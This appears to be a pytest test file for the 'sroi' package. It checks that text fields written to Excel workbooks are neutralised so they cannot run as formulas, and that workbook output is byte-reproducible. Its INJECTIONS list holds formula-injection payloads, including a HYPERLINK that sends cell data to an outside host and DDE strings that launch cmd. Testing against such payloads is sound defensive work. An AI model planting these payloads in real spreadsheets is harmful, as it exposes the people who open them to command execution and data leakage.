"""No live formula from user text in any workbook sroi writes; workbook bytes reproducible.

Injection strings are put in every text field that reaches a workbook (delivery cost
descriptions and sources, unit-cost notes and units, the programme name), ``sroi value``
writes its workbook, and every cell is scanned for a formula.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from sroi import Effect
from sroi._xlsx_text import (
    formulas_to_text,
    is_formula_like,
    live_formulas,
    make_reproducible,
    neutralise,
    neutralise_frame,
    set_text,
)
from sroi.cli import main
from tests.report.helpers import (
    SMALL_DELIVERY,
    UNIT_COSTS,
    results_document,
    write_small_evaluation,
)

INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_text_for_csv_and_pandas():
    for s in INJECTIONS:
        assert is_formula_like(s) and neutralise(s) == "'" + s
    assert neutralise("link workers") == "link workers" and neutralise(3) == 3
    df = pd.DataFrame({"=bad": INJECTIONS[:2], "n": [1, 2]})
    out = neutralise_frame(df)
    assert out.columns.tolist() == ["'=bad", "n"]
    assert out["'=bad"].tolist() == ["'" + s for s in INJECTIONS[:2]]


def test_text_cells_are_never_formulas(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for i, s in enumerate(INJECTIONS, start=1):
        set_text(ws.cell(row=i, column=1), s)
    p = tmp_path / "t.xlsx"
    wb.save(p)
    assert live_formulas(p) == []
    back = openpyxl.load_workbook(p).active
    kept = [back.cell(row=i, column=1).value for i in range(1, 7)]
    # the text is kept (an XML writer may store CR as LF, depending on whether lxml is used)
    assert [k.replace("\r", "\n") for k in kept] == [x.replace("\r", "\n") for x in INJECTIONS]


def test_pandas_workbook_formulas_turned_to_text(tmp_path):
    p = tmp_path / "p.xlsx"
    pd.DataFrame({"description": INJECTIONS}).to_excel(p, index=False)
    assert live_formulas(p)  # pandas writes '=...' as a live formula
    formulas_to_text(p)
    assert live_formulas(p) == []


def test_workbook_bytes_are_reproducible(tmp_path, monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    paths = []
    for name in ("a.xlsx", "b.xlsx"):
        p = tmp_path / name
        pd.DataFrame({"x": [1, 2], "y": ["a", "b"]}).to_excel(p, index=False)
        make_reproducible(p)
        paths.append(p)
        time.sleep(1.1)  # zip entry times have a 2-second resolution; core times 1 second
    assert paths[0].read_bytes() == paths[1].read_bytes()
    assert openpyxl.load_workbook(paths[0]).active["B2"].value == "a"


# ------------------------------------------------------------------ sroi value end to end
def _injected_evaluation(folder: Path) -> tuple[Path, Path]:
    costs = pd.read_csv(UNIT_COSTS, dtype=str)
    inj = INJECTIONS[:4]  # tab and CR are tested in the delivery costs (not CSV-safe)
    costs["notes"] = [inj[i % len(inj)] for i in range(len(costs))]
    costs["source"] = [
        s if pd.isna(s) else f"{inj[i % len(inj)]} {s}" for i, s in enumerate(costs["source"])
    ]
    folder.mkdir(parents=True, exist_ok=True)
    cost_file = folder / "unit_costs.csv"
    costs.to_csv(cost_file, index=False)
    delivery = [dict(d, description=INJECTIONS[0], source=INJECTIONS[3]) for d in SMALL_DELIVERY]
    spec = write_small_evaluation(
        folder,
        **{
            "programme.name": INJECTIONS[0],
            "programme.delivery_costs": delivery,
            "valuation.cost_file": str(cost_file.resolve()),
        },
    )
    effects = [
        Effect.from_estimate(0.01, 0.004, outcome="attendance", n_treated=250),
        Effect.from_estimate(-0.012, 0.006, outcome="suspensions", n_treated=250),
        Effect.from_estimate(-0.004, 0.002, outcome="camhs_referral", n_treated=250),
        Effect.from_estimate(-0.002, 0.002, outcome="csc_referral", n_treated=250),
    ]
    res = folder / "results.json"
    res.write_text(json.dumps(results_document(effects)))
    return spec, res


@pytest.fixture(scope="module")
def value_workbooks(tmp_path_factory):
    base = tmp_path_factory.mktemp("inject")
    spec, res = _injected_evaluation(base / "eval")
    outs = []
    for name in ("a", "b"):
        assert main(["value", str(spec), "--impact", str(res), "-o", str(base / name)]) == 0
        outs.append(base / name / "value_results.xlsx")
        time.sleep(1.1)
    return outs


def test_value_workbook_has_no_live_formula_from_user_text(value_workbooks):
    found = live_formulas(value_workbooks[0])
    from_user = [f for f in found if any(s.strip("\t\r")[1:] in f[2] for s in INJECTIONS)]
    assert from_user == [], f"live formulas from user text (value workbook, issue 14): {from_user}"


def test_value_workbook_is_byte_reproducible(value_workbooks):
    a, b = value_workbooks
    assert a.read_bytes() == b.read_bytes(), "value workbook differs between two runs (issue 14)"
